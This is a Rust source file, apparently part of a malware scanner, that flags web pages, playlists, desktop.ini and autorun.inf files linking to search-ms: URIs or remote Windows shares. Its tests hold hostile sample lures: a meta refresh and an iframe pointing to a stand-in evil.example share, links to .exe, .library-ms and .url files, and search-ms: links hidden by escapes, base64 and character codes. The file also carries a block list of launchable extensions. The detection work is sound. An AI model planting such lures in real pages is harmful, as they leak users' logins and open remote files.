//! Links that have Windows open a folder or a file of a stranger's computer, whoever clicks or not: in pages, play lists and settings.

use super::page::{is_attached_page, scripts, text};
use super::place::is_foreign_server;
use super::{has, name_ends};
use crate::file_name;
use crate::markup::{self, Tag};
use crate::walk::File;
use crate::walk::kind::Kind;
use crate::walk::transfer::{Padding, base64};

/// What a link can be in.
const PLACES: [&str; 12] = [
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "content",
    "value",
    "values",
    "to",
    "from",
    "background",
    "codebase",
];
/// What runs or opens a folder when it is opened from a file server.
const LAUNCHED: &str = "url library-ms search-ms searchconnector-ms lnk scf exe scr com msi bat cmd ps1 js jse vbs vbe wsf hta theme cpl jar";
/// So many texts of a script are looked at.
const TEXTS_MAX: usize = 256;
const TEXT_LONGEST: usize = 4096;

pub(super) fn search_link(file: &File<'_>) -> bool {
    let page = file.kind == Kind::Html || file.declared == "text/html" || is_attached_page(file);
    page && (markup::tags(text(file)).any(|tag| leads_astray(&tag, false))
        // The text of a mail runs no scripts.
        || (is_attached_page(file) && script_leads_astray(&scripts(text(file)))))
}

fn leads_astray(tag: &Tag<'_>, is_inner: bool) -> bool {
    // These are followed without a click.
    let by_itself = ["meta", "iframe", "frame", "embed", "object"].iter().any(|name| tag.is(name));
    tag.attributes().any(|(name, value)| {
        let name = markup::local(name);
        // An event, or a page inside the page.
        if name.get(..2).is_some_and(|start| start.eq_ignore_ascii_case(b"on")) {
            return script_leads_astray(&markup::resolved(value));
        }
        if name.eq_ignore_ascii_case(b"srcdoc") && !is_inner {
            return markup::tags(&markup::resolved(value)).any(|tag| leads_astray(&tag, true));
        }
        if value.len() < 7 || !PLACES.iter().any(|place| name.eq_ignore_ascii_case(place.as_bytes())) {
            return false;
        }
        let value = markup::resolved(&value[..value.len().min(TEXT_LONGEST)]);
        let address = if name.eq_ignore_ascii_case(b"content") { behind_url(&value) } else { &value };
        let dense = dense(address);
        is_search(&dense)
            || (is_foreign_server(&dense)
                && (by_itself || memchr::memchr(b'!', &dense).is_some() || is_launched(&dense)))
    })
}

/// The address that a page goes on to: `0;url=...`. Nothing if it does not.
fn behind_url(content: &[u8]) -> &[u8] {
    let lower = content.to_ascii_lowercase();
    let behind = memchr::memmem::find(&lower, b"url").map(|at| content[at + 3..].trim_ascii_start());
    let address = behind.and_then(|rest| rest.strip_prefix(b"=")).unwrap_or_default().trim_ascii_start();
    address.strip_prefix(b"'").or_else(|| address.strip_prefix(b"\"")).unwrap_or(address)
}

/// An address as browsers read it: without white space in it, in small letters.
pub(super) fn dense(address: &[u8]) -> Vec<u8> {
    let plain = address.iter().filter(|byte| !byte.is_ascii_whitespace() && !byte.is_ascii_control());
    plain.map(u8::to_ascii_lowercase).collect()
}

/// An address that Windows opens as a search in a folder, which may be anywhere, or as a command.
pub(super) fn is_search(dense: &[u8]) -> bool {
    const SCHEMES: [&str; 4] = ["search-ms:", "ms-search:", "ms-officecmd:", "ms-appinstaller:"];
    SCHEMES.iter().any(|scheme| dense.starts_with(scheme.as_bytes()))
        || (dense.starts_with(b"search:") && ["query=", "crumb=", "displayname="].iter().any(|word| has(dense, word)))
}

/// The name of something that runs.
fn is_launched(dense: &[u8]) -> bool {
    let path = dense.split(|byte| b"?#".contains(byte)).next().unwrap_or_default();
    let extension = file_name::extension(&String::from_utf8_lossy(path)).unwrap_or_default();
    LAUNCHED.split(' ').any(|known| known == extension)
}

/// Whether such an address stands in a script: whole or in pieces, in escapes, in base64, or as numbers.
fn script_leads_astray(script: &[u8]) -> bool {
    let joined = joined(script);
    let begins = |at: &usize| *at == 0 || !(joined[at - 1].is_ascii_alphanumeric() || b"-_".contains(&joined[at - 1]));
    let stretch = |at: usize| &joined[at..joined.len().min(at + TEXT_LONGEST)];
    let found = |word: &str| {
        memchr::memmem::find_iter(&joined, word.as_bytes()).any(|at| begins(&at) && is_search(stretch(at)))
    };
    let letters = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/=".contains(byte);
    let encoded = script.split(|byte| !letters(byte)).filter(|run| (12..TEXT_LONGEST).contains(&run.len()));
    let numbers =
        script.split(|byte| !(byte.is_ascii_digit() || b", \r\n\t".contains(byte))).filter(|run| run.len() >= 24);
    ["search", "ms-search:", "ms-officecmd:", "ms-appinstaller:"].iter().any(|word| found(word))
        || encoded.take(TEXTS_MAX).any(|run| is_search(&dense(&base64(run, Padding::EndsGroup))))
        || numbers.take(TEXTS_MAX).any(|run| is_search(&dense(&letters_of(run))))
}

/// A script without the signs between the pieces of a text, and with its escapes read.
fn joined(script: &[u8]) -> Vec<u8> {
    let (mut out, mut rest) = (Vec::with_capacity(script.len()), script);
    while let [first, behind @ ..] = rest {
        rest = behind;
        let digits = match (first, behind) {
            (b'%', behind) => behind.get(..2).map(|digits| (digits, 2)),
            (b'\\', [b'x', digits @ ..]) => digits.get(..2).map(|digits| (digits, 3)),
            (b'\\', [b'u', digits @ ..]) => digits.get(..4).map(|digits| (digits, 5)),
            _ => None,
        };
        let read = |digits: &[u8]| u32::from_str_radix(std::str::from_utf8(digits).ok()?, 16).ok();
        if let Some((letter, length)) = digits.and_then(|(digits, length)| Some((read(digits)?, length))) {
            out.extend(u8::try_from(letter).ok().map(|letter| letter.to_ascii_lowercase()));
            rest = &behind[length..];
        } else if !first.is_ascii_whitespace() && !b"\"'`+,[]\\".contains(first) {
            out.push(first.to_ascii_lowercase());
        }
    }
    out
}

fn letters_of(numbers: &[u8]) -> Vec<u8> {
    let words = numbers.split(|byte| !byte.is_ascii_digit()).filter(|word| !word.is_empty());
    words.map_while(|word| std::str::from_utf8(word).ok()?.parse().ok()).collect()
}

/// Play lists, and what Windows reads beside the files of a folder: they are followed as soon as they are seen, and the stranger learns the login.
pub(super) fn remote_file(file: &File<'_>) -> bool {
    const LISTS: [&str; 12] =
        [".m3u", ".m3u8", ".asx", ".wax", ".wvx", ".wmx", ".pls", ".wpl", ".xspf", ".ram", ".smil", ".smi"];
    let is_list = LISTS.iter().any(|end| name_ends(file, end));
    if !is_list && !name_ends(file, "desktop.ini") && !name_ends(file, "autorun.inf") {
        return false;
    }
    text(file).split(|byte| b"\r\n\"'<>=".contains(byte)).any(|piece| is_foreign_server(&dense(piece)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(name: &str, page: &str) -> bool {
        let names = [name.to_owned()];
        let data = page.as_bytes();
        let declared = if name.is_empty() { "text/html" } else { "" };
        search_link(&File { names: &names, declared, kind: Kind::of(data), data, in_archive: false })
    }

    #[test]
    fn links_are_read_as_browsers_read_them() {
        for page in [
            "<a href='search-ms:query=x'>",
            "<a href=\"sea\nrch-&#109;s:query=x\">",
            "<a href='search:query=invoice&crumb=location:x'>",
            "<meta http-equiv=refresh content=\"0;url=file://evil.example/share/a.exe\">",
            "<meta http-equiv=refresh content=\"0; URL = 'search-ms:query=x'\">",
            "<iframe src='\\\\evil.example\\a'></iframe>",
            "<a href='file://evil.example/a.library-ms'>",
            "<a href='file://evil.example/a.url?x'>",
            "<a href='file://evil.example/a!b'>",
            "<button onclick=\"location='search-ms:query=x'\">",
            "<iframe srcdoc=\"<a href='search-ms:query=x'>\"></iframe>",
        ] {
            assert!(found("a.html", page) && found("", page), "{page}");
        }
        for script in [
            "location='sea'+'rch-'+'ms:query=x'",
            "location=\"\\x73earch\\u002dms:query=x\"",
            "location=unescape('%73earch-ms:query=x')",
            "location=['search-','ms:','q'].join('')",
            "location=atob('c2VhcmNoLW1zOnF1ZXJ5PXg=')",
            "location=String.fromCharCode(115,101,97,114,99,104,45,109,115,58,113)",
        ] {
            assert!(found("a.html", &format!("<html><script>{script}</script>")), "{script}");
        }
        for page in [
            "<html><p>Links that begin with search-ms: are dangerous.</p>",
            "<a href='https://a.example/?u=search-ms:x'>",
            "<a href='file://fs.corp.example/Share/Report.docx'>",
            "<iframe src='file:///C:/a.html'></iframe>",
            "<meta http-equiv=refresh content='5; url=https://a.example/'>",
            "<html><script>var research='ms:'; search(query='x')</script>",
            "<a href='search:monday'>",
        ] {
            assert!(!found("a.html", page) && !found("", page), "{page}");
        }
    }
}
